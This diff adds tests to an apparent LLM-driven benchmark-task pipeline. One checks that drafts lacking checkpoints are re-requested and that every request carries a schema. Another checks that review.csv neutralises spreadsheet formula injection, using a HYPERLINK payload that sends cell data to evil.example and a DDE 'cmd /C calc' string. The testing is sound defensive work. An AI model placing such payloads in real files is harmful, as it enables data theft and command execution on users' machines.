@@ -393,3 +393,69 @@ def test_an_edited_draft_naming_an_unknown_image_is_reported_not_written(
     assert main(_args(posts, out, work, cache, llm)) == 0
     assert "names images not in its thread (p9#7" in capsys.readouterr().out
     assert not list(out.glob("tasks/**/*.yaml"))
+
+
+# --- issue 29: a draft is checked before it is cached, with a schema; review.csv runs no formula ------------
+
+
+def _draft_requests(server) -> list[dict]:
+    """The chat requests of the draft step (their user message starts with "Write ")."""
+    def user_text(body: dict) -> str:
+        content = body["messages"][-1]["content"]
+        return content if isinstance(content, str) else content[0]["text"]
+
+    bodies = [json.loads(r["body"]) for r in server.requests if r["path"].endswith("/chat/completions")]
+    return [b for b in bodies if user_text(b).startswith("Write ")]
+
+
+def test_a_draft_without_checkpoints_is_asked_again_not_cached_and_every_draft_has_a_schema(tmp_path, llm):
+    posts = write_posts(tmp_path / "export")
+    out, work, cache = tmp_path / "community", tmp_path / "work", tmp_path / "cache"
+    broken = {"on": True}
+
+    def answer(user, n):
+        if user.startswith("Write ") and broken["on"]:
+            return json.dumps({k: v for k, v in _draft(user).items() if k != "checkpoints"})
+        return scripted_llm(user, n)
+
+    llm.answer = answer
+    main(_args(posts, out, work, cache, llm))
+    asked = len(_draft_requests(llm))
+    assert asked and "checkpoints" in (work / "05-drafts.jsonl").read_text()  # reported as not fitting
+    broken["on"] = False
+    main(_args(posts, out, work, cache, llm))
+    assert len(_draft_requests(llm)) > asked, "the draft without checkpoints was taken from the cache"
+    drafts = [json.loads(line) for line in (work / "05-drafts.jsonl").read_text().splitlines()]
+    assert drafts and all(not d["problems"] for d in drafts)
+    for body in _draft_requests(llm):
+        schema = body["response_format"]["json_schema"]["schema"]
+        assert "checkpoints" in schema["required"] and schema["properties"]["checkpoints"]["type"] == "array"
+
+
+def test_review_csv_cells_from_posts_are_never_formulas(tmp_path, llm):
+    posts = write_posts(tmp_path / "export")
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    lines = [json.loads(line) for line in posts.read_text().splitlines()]
+    for post in lines:
+        if post["id"] == "p8":
+            post["text"] = hostile
+    posts.write_text("".join(json.dumps(p) + "\n" for p in lines))
+
+    def answer(user, n):
+        if user.startswith("Thread:") and "[post p8]" in user:
+            return json.dumps({"samples": [{"brief": hostile, "post_ids": ["p8"], "input_images": [], "target_images": ["p8#1"],
+                                            "feedback": [], "quality": "benchmark"}]})  # fmt: skip
+        if user.startswith("Write an IM task"):
+            return json.dumps({**_draft(user), "brief": hostile, "title": "+cmd|' /C calc'!A0"})
+        return scripted_llm(user, n)
+
+    llm.answer = answer
+    out, work, cache = tmp_path / "community", tmp_path / "work", tmp_path / "cache"
+    main(_args(posts, out, work, cache, llm))
+    rows = list(csv.reader(io.StringIO((work / "review.csv").read_text(encoding="utf-8"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("HYPERLINK" in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    _decide(work / "review.csv", {POSTER_POSTS: "accept"})  # a decision survives the escaping
+    main(_args(posts, out, work, cache, llm))
+    assert len(list(out.glob("tasks/**/*.yaml"))) == 1
